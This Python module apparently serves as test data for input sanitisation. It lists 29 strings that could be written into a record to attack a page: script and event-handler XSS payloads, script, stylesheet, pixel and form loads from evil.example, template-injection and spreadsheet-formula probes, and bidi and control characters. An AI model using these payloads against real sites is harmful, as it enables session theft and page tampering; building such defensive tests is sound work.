"""What somebody may write into a record to make a page do something: 29 of them."""

ATTACKS = (
    "<script>alert(1)</script>",
    "</script><script>alert(2)</script>",
    "</style><script>alert(3)</script>",
    "</title></textarea></noscript><script>alert(4)</script>",
    "<ScRiPt src=//evil.example/a.js></sCrIpT>",
    "<img src=x onerror=alert(5)>",
    "<img src=https://evil.example/pixel.png>",
    '"><svg onload=alert(6)>',
    "'><svg/onload=alert`7`>",
    '" autofocus onfocus=alert(8) x="',
    "' onmouseover='alert(9)",
    "<math><mi xlink:href=javascript:alert(10)>x</mi></math>",
    "<svg><style><img src=x onerror=alert(11)></style></svg>",
    "<iframe srcdoc='<script>alert(12)</script>'></iframe>",
    "<details open ontoggle=alert(13)>",
    "<link rel=stylesheet href=https://evil.example/a.css>",
    "<style>@import 'https://evil.example/b.css';body{display:none}</style>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example/><button>OK</button></form>",
    "<a href='javascript:alert(14)'>approved</a>",
    "[approved](javascript:alert(15))",
    "![pixel](https://evil.example/pixel.png) https://evil.example/auto www.evil.example",
    "[x]: https://evil.example/ref <https://evil.example/> `</code><script>alert(16)</script>`",
    "{{ 7*7 }} {% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %} ${7*7}",
    "&lt;script&gt;alert(17)&lt;/script&gt; &#60;img src=x onerror=alert(18)&#62; &amp;lt;",
    "<!--<script>--><![CDATA[<script>alert(19)</script>]]> -->",
    '=HYPERLINK("https://evil.example","approved") +1 @SUM(1) | x | ~~a~~ **b** _c_ # d',
    "null undefined NaN [object Object] __proto__ " + "W" * 300,
)
assert len(ATTACKS) == 29
HIDING = "\u202eevil\u2066 \u200f \x00\x1b[2J\x85\ufeff\x0c"
"""What a file may not hold; texts from elsewhere, such as commit messages, may."""
